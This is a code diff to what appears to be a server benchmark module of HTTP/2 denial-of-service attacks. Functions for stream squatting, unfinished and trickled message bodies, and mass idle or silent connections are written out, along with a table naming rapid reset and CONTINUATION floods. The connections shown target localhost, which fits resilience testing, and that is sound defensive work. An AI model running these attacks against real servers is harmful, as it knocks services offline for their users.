@@ -15,7 +15,7 @@ from contextlib import suppress
 from dataclasses import dataclass, field
 from typing import Any
 
-from benchmarks.attacks.wire import WINDOW, Connection, Target, data_frame, header_block, headers_frame, message
+from benchmarks.attacks.wire import Connection, Target, data_frame, header_block, headers_frame, message
 from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame
 
@@ -49,6 +49,18 @@ class Attack:
     def __post_init__(self) -> None:
         self.context = self.target.context()
 
+    async def prove(self) -> None:
+        """Makes one right call by the same means. Raises RuntimeError when it is not answered: an attack that reaches nothing is none."""
+        counts: Counter[str] = Counter()
+        connection = await Connection.start(self.target, self.context, counts)
+        number = connection.stream()
+        await connection.send(headers_frame(number, self.block(CHECKPOINT)) + data_frame(number, message(0, b""), end=True))
+        async with asyncio.timeout(10):
+            await connection.below(1)
+        connection.close()
+        if counts["calls answered"] != 1:
+            raise RuntimeError(f"a right call was not answered: {dict(counts)}")
+
     @property
     def going(self) -> bool:
         """Whether there is time left."""
@@ -57,6 +69,12 @@ class Attack:
     def block(self, path: str, *more: tuple[str, str]) -> bytes:
         """The headers of a call."""
         return header_block(path, self.target.port, *more)
+
+    async def wait_for(self, end: Coroutine[Any, Any, object]) -> None:
+        """Waits for an end, or for that of the attack."""
+        with suppress(OSError):
+            async with asyncio.timeout(max(self.until - time.monotonic(), 0)):
+                await end
 
     async def on(self, connections: int, what: Callable[[Connection], Awaitable[None]], *, reads: bool = True) -> None:
         """Does something on so many connections at once, and again when the server ends one."""
@@ -82,15 +100,14 @@ class Attack:
                 tasks.create_task(one())
 
 
-async def headers_only(attack: Attack) -> None:
-    """26 connections with 1,000 streams each that send headers and nothing else; a stream that ends is begun again."""
+async def _squat(attack: Attack, streams: int) -> None:
     blocks = [attack.block(path) for path in (QUERY, CHECKPOINT, SUBMIT)]
 
     async def squat(connection: Connection) -> None:
         while True:
-            await connection.below(1000)
+            await connection.below(streams)
             frames = []
-            while connection.open < 1000 and len(frames) < BURST:
+            while connection.open < streams and len(frames) < BURST:
                 number = connection.stream()
                 frames.append(headers_frame(number, blocks[number % 3]))
             await connection.send(b"".join(frames))
@@ -98,28 +115,45 @@ async def headers_only(attack: Attack) -> None:
     await attack.on(26, squat)
 
 
+async def headers_only(attack: Attack) -> None:
+    """26 connections with 1,000 streams each that send headers and nothing else; a stream that ends is begun again."""
+    await _squat(attack, 1000)
+
+
+async def headers_within_limits(attack: Attack) -> None:
+    """The same with as many streams as the server allows, so that it has no reason to end a connection."""
+    await _squat(attack, STREAMS)
+
+
 async def _unfinished(attack: Attack, connections: int, streams: int, *, trickle: bool) -> None:
+    """Messages of 4 MiB to the last byte but one, as fast as the server's windows let them; or a byte at a time."""
     block, length = attack.block(SUBMIT), 4 * MiB
-    body = secrets.token_bytes(CHUNK)
+    body, head = secrets.token_bytes(CHUNK), message(4 * MiB, b"")
 
     async def fill(connection: Connection) -> None:
-        """All but the last byte of every message, as far as the server's windows let it; or a byte at a time."""
-        numbers = [connection.stream() for _ in range(streams)]
-        await connection.send(b"".join(headers_frame(number, block) + data_frame(number, message(length, b"")) for number in numbers))
-        left = dict.fromkeys(numbers, length - 1)
-        while left:
-            for number in list(left):
-                size = 1 if trickle else min(CHUNK, left[number])
-                await connection.send(data_frame(number, body[:size]))
-                attack.counts["bytes of messages"] += size
-                left[number] -= size
+        left: dict[int, int] = {}
+        sent = 0
+        while sent < streams or connection.open > 0:
+            while sent < streams and connection.open < STREAMS:
+                number = connection.stream()
+                left[number] = length - 1
+                await connection.send(headers_frame(number, block))
+                await connection.send_data(number, head)
+                sent += 1
+            moved = 0
+            for number in [number for number in left if connection.room(number)]:
+                size = min(1 if trickle else CHUNK, left[number], connection.room(number))
+                if size:
+                    await connection.send_data(number, body[:size])
+                    left[number] -= size
+                    moved += size
                 if not left[number]:
                     del left[number]
+            attack.counts["bytes of messages"] += moved
             if trickle:
                 await asyncio.sleep(0.2)
-            if connection.open <= 0:
-                return
-        await connection.ended()
+            elif not moved:
+                await connection.changed()
 
     await attack.on(connections, fill)
 
@@ -156,55 +190,43 @@ async def rapid_reset(attack: Attack) -> None:
 
 async def idle_connections(attack: Attack) -> None:
     """5,000 connections that do nothing, TLS and first settings done."""
-
-    async def idle(connection: Connection) -> None:
-        await connection.ended()
-
-    slots = asyncio.Semaphore(32)
+    lanes = asyncio.Semaphore(16)
 
     async def one() -> None:
-        while attack.going:
+        async with lanes:
+            if not attack.going:
+                return
             try:
-                async with slots:
-                    connection = await Connection.start(attack.target, attack.context, attack.counts)
+                connection = await Connection.start(attack.target, attack.context, attack.counts)
             except (OSError, ssl.SSLError):
                 attack.counts["connections refused"] += 1
-                await asyncio.sleep(0.1)
-                continue
-            try:
-                with suppress(TimeoutError):
-                    async with asyncio.timeout(max(attack.until - time.monotonic(), 0)):
-                        await idle(connection)
-            finally:
-                connection.close()
+                return
+        await attack.wait_for(connection.ended())
+        connection.close()
 
-    async with asyncio.TaskGroup() as tasks:
-        for _ in range(5000):
-            tasks.create_task(one())
+    await _each(5000, one)
 
 
 async def silent_sockets(attack: Attack) -> None:
     """3,000 connections that never begin with TLS."""
 
     async def one() -> None:
-        while attack.going:
-            try:
-                reader, writer = await asyncio.open_connection("127.0.0.1", attack.target.port)
-            except OSError:
-                attack.counts["connections refused"] += 1
-                await asyncio.sleep(0.1)
-                continue
-            attack.counts["connections"] += 1
-            try:
-                with suppress(OSError):
-                    async with asyncio.timeout(max(attack.until - time.monotonic(), 0)):
-                        await reader.read()
-                        attack.counts["connections ended by the server"] += 1
-            finally:
-                writer.transport.abort()
+        try:
+            reader, writer = await asyncio.open_connection("127.0.0.1", attack.target.port)
+        except OSError:
+            attack.counts["connections refused"] += 1
+            return
+        attack.counts["connections"] += 1
+        await attack.wait_for(reader.read())
+        attack.counts["connections ended by the server"] += attack.going
+        writer.transport.abort()
 
+    await _each(3000, one)
+
+
+async def _each(count: int, one: Callable[[], Coroutine[Any, Any, None]]) -> None:
     async with asyncio.TaskGroup() as tasks:
-        for _ in range(3000):
+        for _ in range(count):
             tasks.create_task(one())
 
 
@@ -324,6 +346,7 @@ async def large_headers(attack: Attack) -> None:
 
 ATTACKS: dict[str, Callable[[Attack], Coroutine[Any, Any, None]]] = {
     "headers only": headers_only,
+    "headers only, 128 a connection": headers_within_limits,
     "unfinished, one connection": unfinished_on_one,
     "unfinished, eight": unfinished_on_several,
     "trickled": trickled,
@@ -339,5 +362,3 @@ ATTACKS: dict[str, Callable[[Attack], Coroutine[Any, Any, None]]] = {
     "CONTINUATION": continuations,
     "large headers": large_headers,
 }
-
-__all__ = ["ATTACKS", "WINDOW", "Attack"]
